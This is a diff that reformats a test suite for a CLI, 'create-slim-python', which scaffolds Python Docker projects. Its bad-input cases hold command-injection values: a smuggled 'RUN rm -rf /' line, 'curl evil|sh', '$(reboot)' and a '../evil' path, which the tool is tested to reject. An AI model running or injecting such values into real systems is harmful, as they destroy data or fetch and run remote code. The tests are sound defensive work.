@@ -16,9 +16,9 @@ beforeEach(() => {
 
 function tree(dir: string, prefix = ''): string[] {
   if (!existsSync(dir)) return [];
-  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
-    entry.isDirectory() ? tree(join(dir, entry.name), `${prefix}${entry.name}/`) : [`${prefix}${entry.name}`],
-  ).sort();
+  return readdirSync(dir, { withFileTypes: true })
+    .flatMap((entry) => (entry.isDirectory() ? tree(join(dir, entry.name), `${prefix}${entry.name}/`) : [`${prefix}${entry.name}`]))
+    .sort();
 }
 
 const REFERENCE = ['my-app', '--yes', '--python', '3.12', '--requirement', 'cryptography', '--requirement', 'aiohttp'];
@@ -29,8 +29,18 @@ describe('create: the reference example', () => {
     expect(result.stderr).toBe('');
     expect(result.exitCode).toBe(0);
     expect(tree(join(work, 'my-app'))).toEqual([
-      '.dockerignore', '.gitignore', '.slim-python/generated/.dockerignore', '.slim-python/generated/Dockerfile', '.slim-python/generated/packages.json',
-      'Dockerfile', 'README.md', 'my_app/__init__.py', 'my_app/__main__.py', 'my_app/app.py', 'requirements.txt', 'slim-python.json',
+      '.dockerignore',
+      '.gitignore',
+      '.slim-python/generated/.dockerignore',
+      '.slim-python/generated/Dockerfile',
+      '.slim-python/generated/packages.json',
+      'Dockerfile',
+      'README.md',
+      'my_app/__init__.py',
+      'my_app/__main__.py',
+      'my_app/app.py',
+      'requirements.txt',
+      'slim-python.json',
     ]);
     expect(readFileSync(join(work, 'my-app/requirements.txt'), 'utf8')).toBe('cryptography\naiohttp\n');
     const dockerfile = readFileSync(join(work, 'my-app/Dockerfile'), 'utf8');
@@ -53,7 +63,9 @@ describe('create: the reference example', () => {
     expect(result.stdout).toContain('docker build -t my-app .');
     expect(result.stdout).toContain('docker run --rm -p 8080:8080 my-app');
     // The generated Python compiles.
-    const pyFiles = tree(join(work, 'my-app')).filter((path) => path.endsWith('.py')).map((path) => join(work, 'my-app', path));
+    const pyFiles = tree(join(work, 'my-app'))
+      .filter((path) => path.endsWith('.py'))
+      .map((path) => join(work, 'my-app', path));
     execFileSync('python3', ['-m', 'py_compile', ...pyFiles], { env: { ...process.env, PYTHONDONTWRITEBYTECODE: '1' } });
   });
 
@@ -99,13 +111,25 @@ describe('create: bad input exits 2 and writes nothing', () => {
   it.each([
     [['app', '--yes', '--name', '../evil'], 'invalid project name "../evil": it contains a path separator; pass --name with a name like "my-app"'],
     [['-x', '--yes'], 'unknown flag -x; run "create-slim-python --help" for the flags'],
-    [['My App', '--yes'], 'invalid project name "My App": it must start with a lowercase letter and use only lowercase letters, digits and "-"; pass --name (or a different DIR) with a name like "my-app"'],
+    [
+      ['My App', '--yes'],
+      'invalid project name "My App": it must start with a lowercase letter and use only lowercase letters, digits and "-"; pass --name (or a different DIR) with a name like "my-app"',
+    ],
     [['app', '--yes', '--name', 'con'], 'invalid project name "con": it is a reserved file name on Windows; pass --name with a name like "my-app"'],
     [['app', '--yes', '--python', '3.9'], 'unsupported Python runtime "3.9" in --python: use one of 3.15, 3.14, 3.13, 3.12, 3.11, 3.10, alpine'],
-    [['app', '--yes', '--requirement', 'cryptography', '--requirement', 'foo=='], '--requirement:2: Invalid requirement "foo==": Expected semicolon (after name with no version specifier) or end (at character 4)'],
+    [
+      ['app', '--yes', '--requirement', 'cryptography', '--requirement', 'foo=='],
+      '--requirement:2: Invalid requirement "foo==": Expected semicolon (after name with no version specifier) or end (at character 4)',
+    ],
     [['app', '--yes', '--requirement', 'x\nRUN rm -rf /'], '--requirement #1 contains a line break; pass one requirement per --requirement'],
-    [['app', '--yes', '--build-deps', 'libffi-dev;curl evil|sh'], 'invalid Alpine package name "libffi-dev;curl" in --build-deps: use names like "libpq" or "so:libmagic.so.1" (lowercase letters, digits, ".", "_", "+", "-")'],
-    [['app', '--yes', '--runtime-libs', '$(reboot)'], 'invalid Alpine package name "$(reboot)" in --runtime-libs: use names like "libpq" or "so:libmagic.so.1" (lowercase letters, digits, ".", "_", "+", "-")'],
+    [
+      ['app', '--yes', '--build-deps', 'libffi-dev;curl evil|sh'],
+      'invalid Alpine package name "libffi-dev;curl" in --build-deps: use names like "libpq" or "so:libmagic.so.1" (lowercase letters, digits, ".", "_", "+", "-")',
+    ],
+    [
+      ['app', '--yes', '--runtime-libs', '$(reboot)'],
+      'invalid Alpine package name "$(reboot)" in --runtime-libs: use names like "libpq" or "so:libmagic.so.1" (lowercase letters, digits, ".", "_", "+", "-")',
+    ],
     [['app', '--yes', '--app', 'gui'], 'invalid app kind "gui" in --app: use one of web, fastapi, cli'],
     [['app', '--yes', '--requirement', 'aiohttp', '--port', '80'], 'invalid port "80" in --port: use a number from 1024 to 65535 (the app runs as a non-root user)'],
     [['app', '--yes', '--requirements-file', 'missing.txt'], 'cannot read --requirements-file WORK/missing.txt: no such file'],
@@ -123,7 +147,9 @@ describe('create: bad input exits 2 and writes nothing', () => {
     writeFileSync(join(work, 'reqs.txt'), 'aiohttp\n# comment\ncryptography>=\n');
     const result = await runCli(['app', '--yes', '--requirements-file', 'reqs.txt'], { cwd: work });
     expect(result.exitCode).toBe(2);
-    expect(result.stderr).toBe(`create-slim-python: ${work}/reqs.txt:3: Invalid requirement "cryptography>=": Expected semicolon (after name with no version specifier) or end (at character 13)\n`);
+    expect(result.stderr).toBe(
+      `create-slim-python: ${work}/reqs.txt:3: Invalid requirement "cryptography>=": Expected semicolon (after name with no version specifier) or end (at character 13)\n`,
+    );
     expect(readdirSync(work)).toEqual(['reqs.txt']);
   });
 
@@ -143,7 +169,9 @@ describe('create: refusing to overwrite exits 3', () => {
     writeFileSync(join(work, 'my-app/Dockerfile'), 'FROM scratch\n');
     const result = await runCli(REFERENCE, { cwd: work });
     expect(result.exitCode).toBe(3);
-    expect(result.stderr).toBe(`create-slim-python: ${work}/my-app is not empty (Dockerfile, notes.txt): choose an empty or new DIR, or pass --force to write over the generated files only\n`);
+    expect(result.stderr).toBe(
+      `create-slim-python: ${work}/my-app is not empty (Dockerfile, notes.txt): choose an empty or new DIR, or pass --force to write over the generated files only\n`,
+    );
     expect(tree(join(work, 'my-app'))).toEqual(['Dockerfile', 'notes.txt']);
     expect(readFileSync(join(work, 'my-app/Dockerfile'), 'utf8')).toBe('FROM scratch\n');
   });
@@ -167,8 +195,21 @@ describe('create: refusing to overwrite exits 3', () => {
     expect(result.stdout).toMatch(/^ {2}overwrite Dockerfile \(yours saved as Dockerfile\.orig\)$/m);
     expect(result.stdout).toMatch(/^ {2}create {4}my_app\/app\.py$/m);
     expect(tree(join(work, 'my-app'))).toEqual([
-      '.dockerignore', '.gitignore', '.slim-python/generated/.dockerignore', '.slim-python/generated/Dockerfile', '.slim-python/generated/packages.json',
-      'Dockerfile', 'Dockerfile.orig', 'README.md', 'my_app/__init__.py', 'my_app/__main__.py', 'my_app/app.py', 'my_app/models.py', 'notes.txt', 'requirements.txt', 'slim-python.json',
+      '.dockerignore',
+      '.gitignore',
+      '.slim-python/generated/.dockerignore',
+      '.slim-python/generated/Dockerfile',
+      '.slim-python/generated/packages.json',
+      'Dockerfile',
+      'Dockerfile.orig',
+      'README.md',
+      'my_app/__init__.py',
+      'my_app/__main__.py',
+      'my_app/app.py',
+      'my_app/models.py',
+      'notes.txt',
+      'requirements.txt',
+      'slim-python.json',
     ]);
     expect(readFileSync(join(work, 'my-app/Dockerfile.orig'), 'utf8')).toBe('FROM scratch\n');
     expect(readFileSync(join(work, 'my-app/notes.txt'), 'utf8')).toBe('mine');
@@ -201,7 +242,21 @@ describe('create: help and version', () => {
   it('--help lists every flag with defaults and the exit codes', async () => {
     const result = await runCli(['--help'], { cwd: work });
     expect(result.exitCode).toBe(0);
-    for (const flag of ['--name', '--python X.Y', '--requirement', '--requirements-file', '--build-deps', '--runtime-libs', '--app', '--port', '--yes', '--dry-run', '--json', '--force', '--interactive']) {
+    for (const flag of [
+      '--name',
+      '--python X.Y',
+      '--requirement',
+      '--requirements-file',
+      '--build-deps',
+      '--runtime-libs',
+      '--app',
+      '--port',
+      '--yes',
+      '--dry-run',
+      '--json',
+      '--force',
+      '--interactive',
+    ]) {
       expect(result.stdout).toContain(flag);
     }
     expect(result.stdout).toMatch(/130 +cancelled/);
